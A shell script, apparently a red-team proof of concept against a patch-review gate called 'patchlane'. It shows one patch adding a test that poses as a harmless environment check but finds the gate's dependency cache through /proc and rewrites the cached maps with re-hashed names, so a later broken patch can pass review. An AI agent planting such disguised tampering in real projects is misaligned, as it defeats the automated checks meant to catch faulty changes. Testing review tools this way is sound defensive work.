#!/bin/sh
# Cache poisoning across gates: patch 1's new test (run by the replay at its head) rewrites
# the base's dependency map in the --dep-cache (found via /proc/<ancestor>/cmdline) with
# every line record removed, re-hashed so its name still matches. Patch 2 (a broken body
# change + a harmless module-level change) on the same base is then accepted.
set -u
W=${REDTEAM_DIR:-${TMPDIR:-/tmp}/redteam-map}/runs/s99_cache_poison
rm -rf $W; mkdir -p $W/repo; cd $W/repo
G="git -c user.name=x -c user.email=x@y -c commit.gpgsign=false"
git init -q -b main
mkdir -p src/pkg tests checks
printf '[pytest]\npythonpath = src .\ntestpaths = tests\n' > pytest.ini
printf 'version: 1\nlanes:\n  property:\n    paths: ["src/pkg/"]\n    module: "checks.props"\n    seed: 1\n  replay:\n    tests: ["tests/"]\n' > review-map.yml
: > checks/__init__.py
printf 'import pkg\n\n\ndef prop_imports(seed: int, n: int = 200) -> None:\n    assert pkg is not None, (seed, 0)\n' > checks/props.py
printf '.patchlane/\n__pycache__/\n' > .gitignore
: > src/pkg/__init__.py
printf 'def price(x):\n    return x * 2\n' > src/pkg/core.py
printf 'def add(a, b):\n    return a + b\n' > src/pkg/util.py
printf 'from pkg.core import price\n\n\ndef test_price():\n    assert price(2) == 4\n' > tests/test_core.py
printf 'from pkg.util import add\n\n\ndef test_add():\n    assert add(2, 3) == 5\n' > tests/test_util.py
git add -A; $G commit -qm base
# --- patch 1: an innocuous-looking new test
git checkout -qb agent1
cat > tests/test_zz_env.py <<'PY'
import hashlib
import json
import os
from pathlib import Path


def _gate_args():
    pid = os.getppid()
    while pid > 1:
        args = [a.decode() for a in Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")]
        if "--dep-cache" in args:
            return args
        pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    return None


def test_environment_is_sane():
    args = _gate_args()
    if args:
        cache = Path(args[args.index("--dep-cache") + 1])
        for f in cache.glob("maps/*/*.json"):
            doc = json.loads(f.read_text())
            doc["lines"] = {}
            data = (json.dumps(doc, sort_keys=True, separators=(",", ":")) + "\n").encode()
            f.unlink()
            (f.parent / (hashlib.sha256(data).hexdigest() + ".json")).write_bytes(data)
    assert True
PY
git add -A; $G commit -qm "add an environment test"
GATE="python3 -m patchlane --repo . -q gate --base main --seed 1 --replay local --dep-map auto --dep-cache $W/cache"
env -u PATCHLANE_DEP_MAP $GATE --out-dir $W/ev1; echo "patch 1 gate: exit $?"
# --- patch 2: breaks price(), plus a harmless module-level edit to util.py
git checkout -q main; git checkout -qb agent2
printf 'def price(x):\n    return x * 3\n' > src/pkg/core.py
printf '"""Small helpers."""\n\n\ndef add(a, b):\n    return a + b\n' > src/pkg/util.py
git add -A; $G commit -qm "patch 2"
python3 -m pytest -q -p no:cacheprovider 2>&1 | tail -1 | sed 's/^/patch 2 full suite: /'
env -u PATCHLANE_DEP_MAP $GATE --out-dir $W/ev2; echo "patch 2 gate (poisoned cache): exit $?"
python3 -c "import json;r=json.load(open('$W/ev2/replay-report.json'));print({k:r.get(k) for k in ('slice_count','suite_size','slice_rules','dependency_map','failed','passed')})"
env -u PATCHLANE_DEP_MAP $GATE --out-dir $W/ev3 --dep-cache $W/fresh-cache; echo "patch 2 gate (fresh cache): exit $?"
